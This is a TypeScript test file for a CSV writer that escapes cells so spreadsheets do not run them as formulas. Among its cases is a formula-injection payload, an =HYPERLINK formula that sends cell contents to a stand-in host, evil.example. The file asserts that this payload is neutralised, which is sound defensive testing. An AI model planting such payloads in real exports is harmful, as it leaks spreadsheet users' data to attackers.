import { setImmediate as nextTurn } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvCell, csvLine, streamTexts, withoutGuards } from './csv.ts';

/** What may begin a cell: the separators of CSV in any country, and line breaks of any system. */
const BEGINS = [',', ';', '\t', '\r', '\n', '\v', '\f', '\u0085', '\u2028', '\u2029'];
/** What programs pass over, or nobody sees, before a sign. */
const UNSEEN = [
  ' ',
  '"',
  "'",
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u00ad',
  '\u202e',
  '\u2800',
  '\u3164',
  '\ufe0f',
  '\0',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];

test('whatever is written comes back from a parser without its guards, cell for cell', () => {
  // A line of one empty cell is an empty line, which CSV cannot tell from none; ours have many cells.
  const character = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 3 }),
    fc.constantFrom(...BEGINS, ...UNSEEN, ...SIGNS),
  );
  const text = fc.array(character, { maxLength: 8 }).map((characters) => characters.join(''));
  const cells = fc.array(text, { minLength: 2, maxLength: 4 });
  fc.assert(
    fc.property(fc.array(cells, { minLength: 1, maxLength: 3 }), (lines) => {
      const text = lines.map(csvLine).join('');
      const read = parse(text, { relax_column_count: true, record_delimiter: '\r\n' }) as string[][];
      expect(read.map((line) => line.map(withoutGuards))).toEqual(lines);
    }),
  );
});

test('no cell begins with a sign that makes it a formula', () => {
  const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠');
  fc.assert(
    fc.property(start, fc.string(), (sign, rest) => {
      const [[cell] = []] = parse(csvLine([sign + rest, 'x']), { record_delimiter: '\r\n' }) as string[][];
      expect(cell?.startsWith(`'${sign}`)).toBe(true);
    }),
  );
});

test('no cell begins with such a sign either where other separators, or line breaks, begin cells', () => {
  const sign = fc.constantFrom(...[...BEGINS, ...UNSEEN, ...SIGNS, 'a', '1']);
  fc.assert(
    fc.property(fc.array(sign, { maxLength: 12 }), (signs) => {
      // Read by a program that knows no quotes at all, which finds the most cells.
      for (const cell of csvLine(['x', signs.join('')])
        .split(new RegExp(`[${BEGINS.join('')}]`))
        .slice(1)) {
        const seen = [...cell].find((character) => ![...UNSEEN, "'"].includes(character));
        const before = seen === undefined ? '' : cell.slice(0, cell.indexOf(seen));
        if (SIGNS.includes(seen ?? '')) expect(before.endsWith("'"), JSON.stringify(cell)).toBe(true);
      }
    }),
    { numRuns: 1000 },
  );
});

test.for([
  ['tabs', '\t'],
  ['semicolons', ';'],
  ['blank lines', '\n '],
  ['separators and what is not seen', ';\t"\u200b'],
] as const)('a text of nothing but %s takes no longer than any other of its length', ([, text]) => {
  // A guard that looked ahead from each of them would not come to the end while anybody waits.
  expect(csvCell(`${text.repeat(500_000)}a=`)).toMatch(/a="$/);
});

test.for([
  ['=HYPERLINK("https://evil.example?"&A1)', '"\'=HYPERLINK(""https://evil.example?""&A1)"'],
  ['+1 305 555 0142', "'+1 305 555 0142"],
  ['Ana "la doctora" Ruiz', '"Ana ""la doctora"" Ruiz"'],
  ['dos\nlíneas', '"dos\nlíneas"'],
  ['a, b', '"a, b"'],
  ['José = José', 'José = José'],
  ['x;=1+1', '"x;\'=1+1"'],
  ['a; b', '"a; b"'],
  ['Hello\n=1+41;thanks', '"Hello\n\'=1+41;thanks"'],
  ['Hola\r\n \t\u200b@x', '"Hola\r\n \t\u200b\'@x"'],
  ['tel,+1 305', '"tel,\'+1 305"'],
  ['uno\u2028=1', '"uno\u2028\'=1"'],
  ['a-b = c + d @ e', 'a-b = c + d @ e'],
  ['', ''],
] as const)('%s is written as %s', ([text, written]) => {
  expect(csvCell(text)).toBe(written);
});

test('other requests are answered between two texts', async () => {
  const happened: string[] = [];
  async function* texts() {
    for (const text of ['a', 'b', 'c']) {
      happened.push(text);
      yield text;
    }
  }
  const reading = new Response(streamTexts(texts())).text();
  // What waits for its turn in the event loop represents another visitor's request.
  for (let turn = 0; turn < 3; turn += 1) {
    await nextTurn();
    happened.push('request');
  }
  expect(await reading).toBe('abc');
  expect(happened.indexOf('request')).toBeLessThan(happened.indexOf('c'));
});

test('nobody reads any more: the texts end', async () => {
  let hasEnded = false;
  async function* texts() {
    try {
      for (;;) yield 'a';
    } finally {
      hasEnded = true;
    }
  }
  const reader = streamTexts(texts()).getReader();
  await reader.read();
  await reader.cancel();
  expect(hasEnded).toBe(true);
});
